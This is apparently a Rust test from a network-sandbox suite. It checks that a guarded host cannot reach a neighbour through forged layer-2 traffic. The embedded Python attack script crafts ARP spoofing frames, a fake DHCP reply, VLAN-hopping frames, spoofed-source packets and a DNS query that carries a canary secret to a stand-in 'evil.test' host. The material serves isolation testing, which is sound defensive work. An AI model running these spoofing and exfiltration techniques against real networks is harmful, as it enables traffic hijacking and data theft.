//! HO01: a neighbour's MAC, address and ARP, a DHCP server, VLAN tags. Each link ends at the gate:
//! there is no wire that two computers share, so the neighbour sees nothing of it.

use std::time::Duration;

use den_testkit::Site;

use crate::world::{World, answered, canary};

#[test]
fn a_neighbour_is_not_reached_by_frames() {
    let world = World::guarded(&["good.test"]);
    world.add("n", "guarded", &["good.test"]);
    let secret = canary();
    std::thread::scope(|scope| {
        // The neighbour listens for everything that arrives, and works meanwhile.
        let neighbour = world.start(
            scope,
            "n",
            &format!(
                "w = wire(); w.settimeout(0.02)\n\
                 heard, strange, slow, until = 0, [], 0, time.time() + 4\n\
                 good = address('good.test')\n\
                 count = 0\n\
                 while time.time() < until:\n\
                 \x20r = get(good, 'good.test'); count += r['got'].startswith('HTTP/1.1 200'); slow = max(slow, r['ms'])\n\
                 \x20try:\n\
                 \x20\x20while True:\n\
                 \x20\x20\x20data, about = w.recvfrom(2000); heard += 1\n\
                 \x20\x20\x20if b'{secret}' in data or (about[2] != 4 and data[6:12] != GATE_MAC): strange.append(data.hex())\n\
                 \x20except OSError: pass\n\
                 say(count=count, heard=heard, strange=strange[:3], slow=slow)"
            ),
        );
        std::thread::sleep(Duration::from_millis(700));
        let attack = world.run(
            "c",
            &format!(
                "w = wire(); every = b'\\xff' * 6; secret = b'{secret}'\n\
                 def arp(op, sha, spa, tha, tpa): return struct.pack('>HHBBH', 1, 0x0800, 6, 4, op) + sha + socket.inet_aton(spa) + tha + socket.inet_aton(tpa) + secret\n\
                 sent = 0\n\
                 def go(data):\n\
                 \x20global sent\n\
                 \x20try: w.send(data); sent += 1\n\
                 \x20except OSError: pass\n\
                 for n in range(50):\n\
                 \x20for mac in (GATE_MAC, OWN_MAC, b'\\x02\\0\\0\\0\\0\\x07'):\n\
                 \x20\x20for ip in ('169.254.1.1', '10.0.0.2', '10.0.0.3'):\n\
                 \x20\x20\x20go(frame(arp(2, mac, ip, every, '10.0.0.2'), 0x0806, every, mac))\n\
                 \x20\x20\x20go(frame(arp(1, mac, ip, b'\\0' * 6, '169.254.1.1'), 0x0806, every, mac))\n\
                 \x20\x20go(frame(syn('{{good}}', 80, source='10.0.0.3'), source=mac)); go(frame(udp('10.0.0.2', 7, secret, source='169.254.1.1'), source=mac))\n\
                 \x20\x20go(frame(udp('255.255.255.255', 68, b'\\x02\\x01\\x06' + b'\\0' * 233 + b'\\x63\\x82\\x53\\x63\\x35\\x01\\x02\\xff' + secret, source='169.254.1.1'), to=every, source=mac))\n\
                 \x20for tag in (1, 2, 100, 4095):\n\
                 \x20\x20go(GATE_MAC + OWN_MAC + struct.pack('>HHH', 0x8100, tag, 0x0800) + udp('{{evil}}', 53, secret))\n\
                 \x20\x20go(GATE_MAC + OWN_MAC + struct.pack('>HHHHH', 0x88a8, tag, 0x8100, tag, 0x0800) + udp('{{evil}}', 53, secret))\n\
                 \x20for source in ('169.254.1.1', '{{host}}', '127.0.0.1', '10.0.0.3', '0.0.0.0'): go(frame(udp('{{evil}}', 53, question('{secret}.evil.test'), source=source))); go(frame(syn('{{evil}}', 80, source=source)))\n\
                 say(sent=sent)\n\
                 say(**get(address('good.test'), 'good.test'))"
            ),
        );
        assert!(attack[0]["sent"].as_u64().is_some_and(|sent| sent > 1000), "{attack:?}");
        answered(&attack[1]);
        let seen = &neighbour.join().expect("the neighbour")[0];
        assert!(seen["count"].as_u64().is_some_and(|count| count >= 10), "the neighbour works: {seen}");
        assert_eq!(seen["strange"], serde_json::json!([]), "nothing foreign arrived");
        assert!(seen["heard"].as_u64().is_some_and(|heard| heard > 10), "it would have been heard: {seen}");
    });
    world.untouched(Site::Evil);
    world.no_leak(&secret);
    world.dropped("c", "forged");
    // What goes by the neighbour's link is the neighbour's: its record has only its own flows.
    assert!(!world.records("n").iter().any(|record| record["verdict"] == "deny"), "{:?}", world.records("n"));
}
